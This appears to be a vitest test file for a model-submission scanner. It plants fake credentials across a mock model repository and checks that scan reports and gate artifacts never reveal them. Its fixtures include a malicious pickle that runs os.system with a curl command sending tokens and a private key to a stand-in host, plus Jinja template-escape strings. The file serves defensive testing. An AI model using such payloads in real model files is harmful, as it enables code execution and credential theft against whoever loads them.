import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { fixedClock } from '../../src/core/clock.ts';
import { silentProgress } from '../../src/core/progress.ts';
import { profilePolicy } from '../../src/decide/load-policy.ts';
import { intake } from '../../src/gate/intake.ts';
import { modelgate } from '../support/modelgate.ts';
import * as p from '../support/pickle-assembler.ts';
import { safetensors } from '../support/safetensors-writer.ts';
import { AWS, drawn, privateKeyPem, SECRETS } from '../support/secrets.ts';
import { sharedTemporaryDirectory } from '../support/temporary.ts';
import { zip } from '../support/zip-assembler.ts';

const directory = sharedTemporaryDirectory();
const model = join(directory, 'model');

const HUB = SECRETS['hugging-face-token'];
const FORGE = SECRETS['github-token'];
const KEY = privateKeyPem('rsa');
const ENVIRONMENT = drawn('environment', 32);
const NETRC = drawn('netrc', 20);
const HIDDEN = [HUB, FORGE, AWS.secret, SECRETS['openai-key'], ENVIRONMENT, NETRC, ...KEY.split('\n').slice(1, -2)];

/** Every place where a submission's own words are quoted holds a secret. */
function tree(): Readonly<Record<string, string | Uint8Array>> {
  const tensors = { a: { dtype: 'F32', shape: [2], data_offsets: [0, 8] } };
  return {
    'README.md': `---\nbase_model: someone/${HUB}\nlicense: ${HUB}\n---\n# A model\n${AWS.id} ${AWS.secret}\n`,
    'config.json': JSON.stringify({
      model_type: 'llama',
      _name_or_path: `https://user:${HUB}@hub.example/${FORGE}`,
      auto_map: { AutoModel: `${HUB}.Model`, AutoConfig: `a/b--${FORGE}.Config` },
    }),
    'tokenizer_config.json': JSON.stringify({
      chat_template: `{{ ''.__class__['${HUB}'] }}{{ x.__globals__['${FORGE}'] }}`,
    }),
    'model.safetensors': safetensors({ __metadata__: { format: HUB }, ...tensors }, Buffer.alloc(8)),
    'pytorch_model.bin': p.pickle(
      p.proto(2),
      p.global('os', 'system'),
      p.binUnicode(
        `${'x '.repeat(40)}curl -H "Authorization: Bearer ${HUB}" -H "X: ${FORGE}" ${KEY} https://a.example`,
      ),
      p.tuple1,
      p.reduce,
      p.stop,
    ),
    'names.pkl': p.pickle(p.proto(2), p.global('helpers', HUB), p.emptyTuple, p.reduce, p.stop),
    'train.py': `import os\nos.environ["HF_TOKEN"] = "${HUB}"\nos.system("echo ${SECRETS['openai-key']}")\n`,
    'notebook.ipynb': JSON.stringify({ cells: [{ source: [`login("${HUB}")\n`] }] }),
    'conf.zip': zip([{ name: `conf/.env`, data: Buffer.from(`A_TOKEN=${ENVIRONMENT}\n`), method: 8 }]),
    '.env': `SERVICE_TOKEN=${ENVIRONMENT}\n`,
    '.netrc': `machine a login b password ${NETRC}\n`,
    'key.pem': KEY,
    'broken.json': `{"token": "${HUB}", "token": ${FORGE}`,
    [`adapter_config.json`]: JSON.stringify({ base_model_name_or_path: `a/${FORGE}` }),
  };
}

/** Eight characters of a secret, anywhere in it, are too many; the first four are the kind's. Where each leak stands. */
function leaks(text: string): string[] {
  return HIDDEN.flatMap((secret) => {
    for (let at = 4; at + 8 <= secret.length; at++) {
      // In every key of OpenAI: its name in base64, which an envelope may hold too.
      if (secret.slice(at, at + 8) === 'T3BlbkFJ') continue;
      const found = text.indexOf(secret.slice(at, at + 8));
      if (found !== -1) return [text.slice(Math.max(0, found - 80), found + 40)];
    }
    return [];
  });
}

/** A text with what is in base64 in it: envelopes hold their statement so. */
function opened(text: string): string {
  const inside = text.match(/[A-Za-z0-9+/_-]{40,}={0,2}/gu) ?? [];
  return [text, ...inside.map((encoded) => Buffer.from(encoded, 'base64').toString('utf8'))].join('\n');
}

async function scanned(format: string): Promise<string> {
  return (await modelgate('scan', model, '--format', format, '--fail-on', 'info')).text;
}

describe('a secret in a submission', () => {
  beforeAll(async () => {
    for (const [path, content] of Object.entries(tree())) {
      await mkdir(dirname(join(model, path)), { recursive: true });
      await writeFile(join(model, path), content);
    }
  });

  it.each(['text', 'json', 'sarif', 'github'])(
    'stands in no line of the scan as %s, and is reported in all of them',
    async (format) => {
      const output = await scanned(format);
      expect(output).toContain('secret-in-tree');
      expect(output).toContain('access token of Hugging Face (hf_');
      expect(leaks(output)).toEqual([]);
    },
  );

  it('stands nowhere in what a gate run leaves behind but in the quarantined files themselves', async () => {
    const runDir = join(directory, 'run');
    const events: string[] = [];
    const output = await intake({
      source: model,
      base: undefined,
      policy: profilePolicy('strict'),
      runDir,
      keyPath: join(directory, 'keys/gate.pem'),
      ledger: join(directory, 'ledger'),
      clock: fixedClock(new Date('2026-11-23T10:00:00Z')),
      signal: AbortSignal.timeout(60_000),
      progress: silentProgress,
      onEvent: (event) => events.push(JSON.stringify(event)),
    });
    expect(output.verdict).toBe('reject');
    const left = [runDir, join(directory, 'ledger')].map((root) =>
      readdir(root, { recursive: true, withFileTypes: true }),
    );
    const files = (await Promise.all(left))
      .flat()
      .filter((entry) => entry.isFile() && !entry.parentPath.includes('/blobs'));
    expect(files.map(({ name }) => name)).toEqual(
      expect.arrayContaining(['report.html', 'verdict.json', 'events.jsonl', '3-scan.sigstore.json']),
    );
    for (const { parentPath, name } of files) {
      const text = opened(await readFile(join(parentPath, name), 'utf8'));
      expect([name, leaks(text)]).toEqual([name, []]);
    }
    expect(leaks(events.join('\n') + JSON.stringify(output))).toEqual([]);
  });
});
